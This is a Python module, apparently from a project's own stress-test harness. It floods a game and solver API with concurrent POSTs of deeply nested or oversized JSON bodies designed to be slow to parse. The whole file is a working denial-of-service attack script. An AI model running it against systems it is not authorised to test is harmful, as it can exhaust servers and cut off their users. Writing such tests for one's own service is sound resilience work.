"""A nameless visitor sends bodies that are small to send and slow to read: lists of nothing, deep, long."""

from __future__ import annotations

import asyncio
import time
from collections import Counter

import httpx
from attack.target import Target

SENDERS = 8
BODIES = (
    b"[" + b"[]," * 20_000 + b"[]]",
    b'{"name":[' + b"[]," * 340_000 + b"[]]}",
    b"[" * 60_000,
    b'{"a":' * 10_000 + b"0" + b"}" * 10_000,
    b"[" + b"1e9," * 15_000 + b"0]",
    b'{"text":"' + b"\\\\" * 30_000 + b'"}',
)
ROUTES = (
    "/api/v1/session",
    "/api/v1/visitors",
    "/api/v1/robots/check",
    "/api/v1/arena/check",
    "/api/v1/games/diplomacy/standard/resolution",
    "/afjd/users/login",
    "/afjd/solver/solve",
)


async def attack(target: Target) -> str:
    """Several senders at once, each body to each route in turn."""
    answered: Counter[int] = Counter()
    until = time.monotonic() + target.seconds

    async def send(number: int) -> None:
        turn = number
        async with httpx.AsyncClient(base_url=target.url, timeout=30) as http:
            while time.monotonic() < until:
                path, body = ROUTES[turn % len(ROUTES)], BODIES[turn // len(ROUTES) % len(BODIES)]
                turn += SENDERS
                try:
                    answer = await http.post(path, content=body, headers={"Content-Type": "application/json"})
                    answered[answer.status_code] += 1
                except httpx.HTTPError:
                    answered[0] += 1

    await asyncio.gather(*(send(number) for number in range(SENDERS)))
    return ", ".join(f"{count} × {status or 'cut off'}" for status, count in sorted(answered.items()))
